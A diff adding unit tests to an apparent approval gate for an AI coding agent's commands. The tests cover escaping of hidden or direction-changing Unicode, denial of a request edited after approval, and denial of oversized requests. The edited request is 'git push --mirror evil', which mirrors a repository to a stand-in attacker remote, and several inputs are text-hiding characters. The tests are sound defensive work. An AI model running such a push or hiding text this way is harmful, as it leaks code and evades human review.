@@ -321,7 +321,28 @@ def test_a_request_too_long_to_show_whole_is_denied_without_asking() -> None:
         ("café, कि", "café, कि"),  # text of other scripts stays
         ("\u3164 \U000e0041", "⟦U+3164⟧ ⟦U+E0041⟧"),  # a blank letter, a tag
         ("⟦U+202E⟧", "⟦U+27E6⟧U+202E⟦U+27E7⟧"),  # a faked mark
+        ("é\u034fb é\ufe0f", "é⟦U+034F⟧b é⟦U+FE0F⟧"),  # a joiner, a variation selector
+        ("é" + "\u0338" * 4, "é\u0338\u0338⟦U+0338⟧⟦U+0338⟧"),  # marks stacked past two
     ],
 )
 def test_every_face_shows_what_would_hide_or_move_text(text: str, shown: str) -> None:
     assert visible(text) == shown
+
+
+def test_a_request_whose_text_changed_after_it_was_asked_about_is_denied() -> None:
+    """A command run's request keeps its id while its command is edited: an approval of the
+    first text never allows the second."""
+    (approval,) = judge({"command": "git push origin main"}).pending
+    named = {approval.id: (Choice.APPROVE, str(approval.digest))}
+    asking = Asking([approval], named, T0, TIMEOUT, "15m")
+    changed = request("git push --mirror evil")
+    result = gating.answer({"command": changed}, POLICY, {}, claude_code.request_of, asking)
+    assert result.answers["command"].startswith("deny\n")
+    assert result.approvals[0].state == ApprovalState.DENIED
+    assert "changed after it was asked about" in str(result.approvals[0].message)
+
+
+def test_a_request_too_large_once_escaped_is_denied_without_asking() -> None:
+    text = "git push origin " + "\x01" * 8000  # 8,016 characters, 48 KB as JSON
+    (approval,) = judge({"10-1": text}).approvals
+    assert approval.state == ApprovalState.DENIED
